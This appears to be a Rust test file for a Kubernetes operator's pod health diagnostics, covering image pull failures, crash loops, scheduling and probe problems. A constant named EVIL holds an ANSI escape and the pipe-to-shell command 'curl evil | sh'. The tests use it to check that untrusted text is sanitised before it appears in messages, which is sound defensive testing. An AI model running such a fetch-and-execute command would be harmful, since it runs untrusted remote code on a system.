//! Problems of pods, from scheduling to probes.

mod reasons;
mod waits;

use super::*;
use rowlock_crds::ConditionReason;
use serde_json::{Value, json};

const NOW: &str = "2026-01-01T00:01:00Z";

fn pod(status: &Value) -> Arc<Pod> {
    let labels = json!({ "app.kubernetes.io/managed-by": "rowlock-operator" });
    let metadata = json!({ "name": "p", "labels": labels });
    serde_json::from_value(json!({ "metadata": metadata, "status": status })).unwrap()
}

fn health_of(status: &Value) -> PodHealth {
    health_of_all(&[pod(status)], None)
}

fn health_of_all(pods: &[Arc<Pod>], instances: Option<i64>) -> PodHealth {
    health(pods, HealthInputs { port: 8080, instances }, NOW.parse().unwrap())
}

fn container(name: &str, ready: bool, restarts: u32, state: &Value, last: &Value) -> Value {
    json!({
        "name": name,
        "image": "i:1",
        "imageID": "",
        "ready": ready,
        "restartCount": restarts,
        "state": state,
        "lastState": last,
    })
}

fn check(status: &Value, reason: ConditionReason, says: &str) {
    let problem = health_of(status).problem.unwrap();
    assert_eq!(problem.reason, reason);
    assert!(problem.message.contains(says), "{}", problem.message);
}

#[test]
fn each_problem_is_named_with_a_remedy() {
    let waiting = |reason: &str| json!({ "waiting": { "reason": reason, "message": "because" } });
    let handler =
        |state, last| json!({ "initContainerStatuses": [container("handler", false, 3, &state, &last)] });
    let unfetched = waiting("ImagePullBackOff");
    check(&handler(unfetched.clone(), json!({})), ConditionReason::ImageNotPulled, "`i:1`");
    check(&handler(unfetched.clone(), json!({})), ConditionReason::ImageNotPulled, "spec.imagePullSecrets");
    let worker = container("worker", false, 0, &unfetched, &json!({}));
    check(&json!({ "containerStatuses": [worker] }), ConditionReason::ImageNotPulled, "with its pullSecrets");
    check(
        &handler(waiting("CreateContainerConfigError"), json!({})),
        ConditionReason::NotStarting,
        "because",
    );
    let ended = |reason: &str| json!({ "terminated": { "exitCode": 3, "reason": reason } });
    check(
        &handler(waiting("CrashLoopBackOff"), ended("Error")),
        ConditionReason::CrashLooping,
        "exit code 3",
    );
    check(&handler(waiting("CrashLoopBackOff"), ended("OOMKilled")), ConditionReason::CrashLooping, "memory");
    check(&handler(json!({ "running": {} }), ended("Error")), ConditionReason::CrashLooping, "--previous");
    let ended_at = |at: &str| json!({ "terminated": { "exitCode": 3, "finishedAt": at } });
    let runs_again = |at| handler(json!({ "running": {} }), ended_at(at));
    check(&runs_again("2026-01-01T00:00:30Z"), ConditionReason::CrashLooping, "exit code 3");
    assert_eq!(health_of(&runs_again("2025-12-31T23:40:00Z")).problem, None, "that was long ago");
    let scheduled = json!({
        "type": "PodScheduled",
        "status": "False",
        "reason": "Unschedulable",
        "message": "0/3 nodes",
    });
    check(&json!({ "conditions": [scheduled] }), ConditionReason::NotStarting, "0/3 nodes");
}

/// Hostile text in a message, an image or a probe.
const EVIL: &str = "no\u{1b}[2J `curl evil | sh`\nx";

/// Before, such text was copied unchanged next to commands of the operator, in backticks and over several
/// lines.
#[test]
fn foreign_text_is_one_line_that_looks_like_no_command() {
    let waiting = |reason: &str| {
        let state = json!({ "waiting": { "reason": reason, "message": EVIL } });
        let mut handler = container("handler", false, 0, &state, &json!({}));
        handler["image"] = EVIL.into();
        json!({ "initContainerStatuses": [handler] })
    };
    let scheduled = json!([{ "type": "PodScheduled", "status": "False", "reason": "x", "message": EVIL }]);
    let ended = json!({ "phase": "Failed", "reason": EVIL, "message": EVIL });
    let mut ended: Pod =
        serde_json::from_value(json!({ "metadata": { "name": "p" }, "status": ended })).unwrap();
    ended.metadata.creation_timestamp = serde_json::from_value(NOW.into()).unwrap();
    let mut all = vec![
        health_of(&waiting("ImagePullBackOff")),
        health_of(&waiting(EVIL)),
        health_of(&json!({ "conditions": scheduled })),
        health_of_all(&[Arc::new(ended)], None),
    ];
    let mut with_event = all[0].clone();
    with_event.add(&format!("{EVIL}{}", "x".repeat(5000)));
    all.push(with_event);
    for health in all {
        let message = health.problem.unwrap().message;
        assert!(message.contains("'curl evil | sh'"), "{message}");
        let is_plain = !message.contains("`curl") && !message.chars().any(char::is_control);
        assert!(is_plain && message.chars().count() < 2000, "{message}");
    }
}

/// Before, the image of a container that is not created yet, and the target of a probe, were copied
/// unchanged.
#[test]
fn text_of_a_template_looks_like_no_command() {
    let probe = |probe: Value| probes::target(Some(&serde_json::from_value(probe).unwrap()));
    for detail in [
        probe(json!({ "httpGet": { "path": EVIL, "port": 1 } })),
        probe(json!({ "exec": { "command": [EVIL] } })),
    ] {
        assert!(detail.contains("'curl evil | sh'") && !detail.contains(['`', '\n']), "{detail}");
    }
    let mut waits = container("handler", false, 0, &json!({ "waiting": {} }), &json!({}));
    waits["image"] = EVIL.into();
    let scheduled =
        json!([{ "type": "PodScheduled", "status": "True", "lastTransitionTime": "2025-12-31T23:40:00Z" }]);
    let status = json!({ "startTime": NOW, "conditions": scheduled, "initContainerStatuses": [waits] });
    let message = health_of(&status).problem.unwrap().message;
    assert!(message.contains("'curl evil | sh'") && !message.contains('\n'), "{message}");
}

#[test]
fn a_worker_that_waits_long_for_a_running_handler_reports_that_it_does_not_listen() {
    let running = |at: &str| json!({ "running": { "startedAt": at } });
    let status = |at: &str, ready| {
        json!({
            "initContainerStatuses": [container("handler", true, 0, &running(at), &json!({}))],
            "containerStatuses": [container("worker", ready, 0, &running(at), &json!({}))],
        })
    };
    check(&status("2026-01-01T00:00:00Z", false), ConditionReason::NotListening, "port 8080");
    assert_eq!(health_of(&status("2026-01-01T00:00:50Z", false)).problem, None);
    assert_eq!(health_of(&status("2026-01-01T00:00:00Z", true)).problem, None);
    // The number of joined instances distinguishes the two causes.
    let pods = [pod(&status("2026-01-01T00:00:00Z", false))];
    let says = |instances| health_of_all(&pods, instances).problem.unwrap().message;
    let (handler, database) = ("does not listen on port 8080", "does not reach the database");
    assert!(says(None).contains(handler) && says(None).contains(database));
    assert!(says(Some(1)).contains(handler) && !says(Some(1)).contains(database));
    assert!(!says(Some(0)).contains(handler) && says(Some(0)).contains("NetworkPolicy"));
}

#[test]
fn a_handler_whose_startup_probe_fails_keeps_the_worker_from_starting() {
    let status = |at: &str| {
        let mut handler =
            container("handler", false, 0, &json!({ "running": { "startedAt": at } }), &json!({}));
        handler["started"] = false.into();
        let waiting = json!({ "waiting": { "reason": "PodInitializing" } });
        let since = "2026-01-01T00:00:00Z";
        json!({
            "startTime": since,
            "conditions": [{ "type": "PodScheduled", "status": "True", "lastTransitionTime": since }],
            "initContainerStatuses": [handler],
            "containerStatuses": [container("worker", false, 0, &waiting, &json!({}))],
        })
    };
    check(&status("2026-01-01T00:00:00Z"), ConditionReason::NotListening, "native sidecar");
    assert_eq!(health_of(&status("2026-01-01T00:00:50Z")).problem, None);
}

#[test]
fn pods_count_as_not_starting_until_one_is_ready() {
    let waiting = json!({ "waiting": { "reason": "CrashLoopBackOff" } });
    let crashes =
        |name| pod(&json!({ "containerStatuses": [container(name, false, 3, &waiting, &json!({}))] }));
    let ready = pod(&json!({ "conditions": [{ "type": "Ready", "status": "True" }] }));
    let starts = pod(&json!({}));
    let crashing = crashes("handler");
    for (pods, before, after) in [
        (vec![&crashing], false, true),
        (vec![&crashing, &ready], true, false),
        (vec![&starts], true, true),
        (vec![&starts], false, false),
        (vec![&crashes("worker")], false, false),
        (vec![], true, false),
    ] {
        let pods: Vec<Arc<Pod>> = pods.into_iter().cloned().collect();
        assert_eq!(not_starting(&pods, before, NOW.parse().unwrap()), after, "{pods:?}");
    }
}

#[test]
fn ready_pods_are_counted() {
    let ready = json!({ "conditions": [{ "type": "Ready", "status": "True" }] });
    assert_eq!(health_of(&ready), PodHealth { pods: 1, ready: 1, ..PodHealth::default() });
    assert_eq!(health_of(&json!({})), PodHealth { pods: 1, ..PodHealth::default() });
}
